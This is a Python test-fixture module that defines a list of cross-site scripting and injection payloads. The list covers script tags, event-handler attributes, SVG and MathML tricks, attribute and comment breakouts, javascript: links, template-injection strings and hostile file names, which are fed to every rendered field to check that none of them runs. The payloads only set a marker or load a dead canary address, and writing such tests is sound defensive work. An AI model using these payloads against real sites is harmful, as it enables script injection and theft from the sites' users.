"""Texts that a page must show and never obey: the list that every drawn field is given.

Those that would run say so by `window.pwned`, or ask an address that nobody has.
"""

from __future__ import annotations

from collections.abc import Sequence

from emr_nb.wording import printable

RUN = "window.pwned=1"
CANARY = "http://canary.invalid/x"
LONG = "<b>long</b>" * 80
# promises.md names these first (F39, F34), then what is known to get past sanitisers
PAYLOADS = (
    '<img src=x onerror="window.pwned=1">',
    "../x <img src=x onerror=window.pwned=1>",
    "a\nb<img src=x onerror=window.pwned=1>",
    "CON <img src=x onerror=window.pwned=1>",
    "\u202egnp.<img src=x onerror=window.pwned=1>",
    "nul\x00<img src=x onerror=window.pwned=1>",
    "u\u2028<img src=x onerror=window.pwned=1>",
    "\x1b[31m<img src=x onerror=window.pwned=1>\r",
    LONG,
    f'<button data-commandlinker-command="x" data-commandlinker-args="{{}}" onclick="{RUN}">1',
    # HTML that runs by itself
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src={CANARY}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img/src=1/onerror={RUN}>",
    f"<img src='{CANARY}'>",
    f"<image src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={CANARY}></object>",
    f"<embed src={CANARY}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>1",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>1",
    f"<link rel=stylesheet href={CANARY}>",
    f"<style>@import '{CANARY}';</style>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>1",
    f"<meta http-equiv=refresh content='0;url={CANARY}'>",
    f"<base href={CANARY}>",
    f"<form action=javascript:{RUN}><button autofocus>1",
    # SVG, MathML and templates
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>1</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    # out of an attribute, a comment, a text that is no HTML
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f'"><svg onload={RUN}>',
    f"'><svg onload={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><img src=x onerror={RUN}>",
    f"</title></textarea></style><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    # links and Markdown
    f"javascript:{RUN}",
    f"<a href=javascript:{RUN}>1</a>",
    f"<a href='java\tscript:{RUN}'>1</a>",
    f"[1](javascript:{RUN})",
    f"![1]({CANARY})",
    f"data:text/html,<script>{RUN}</script>",
    # templates, and what a translation or a lookup by name would take for its own
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %>",
    f"#{{{RUN}}}",
    f"%1 %2 $& $1 $` <img src=x onerror={RUN}>",
    f"';{RUN};//",
    f"'-{RUN}-'",
    "constructor",
    "__proto__",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)
_SEEN = 240  # characters of a long text that a row has for certain


def flat(payload: str) -> str:
    """Return a payload as a name that has no slash."""
    return payload.replace("/", "\u2215")


def file_name(payload: str) -> str:
    """Return a payload as a name that a disk takes."""
    return flat(payload).replace("\0", "").encode()[:250].decode(errors="ignore")


def one_line(payload: str) -> str:
    """Return a payload for a place that has lines of its own."""
    return "".join(c for c in payload if c >= " " and c != "\u2028")


# all in one text, for a place of which there is one; nothing in it closes what follows
ALL = " | ".join(one_line(p) for p in PAYLOADS if p is not LONG)


def names(payloads: Sequence[str] = PAYLOADS) -> list[str]:
    """Return how names look that came from elsewhere: what is active in them is written out."""
    return [printable(payload)[:_SEEN] for payload in payloads]


def code(payloads: Sequence[str] = PAYLOADS) -> list[str]:
    """Return how code and values look in one line: as they are, but for ends of lines."""
    return [_on_one_line(payload)[:_SEEN] for payload in payloads]


def _on_one_line(text: str) -> str:
    for old, new in (("\r\n", "↵"), ("\r", "↵"), ("\n", "↵"), ("\t", "⇥")):
        text = text.replace(old, new)
    return text
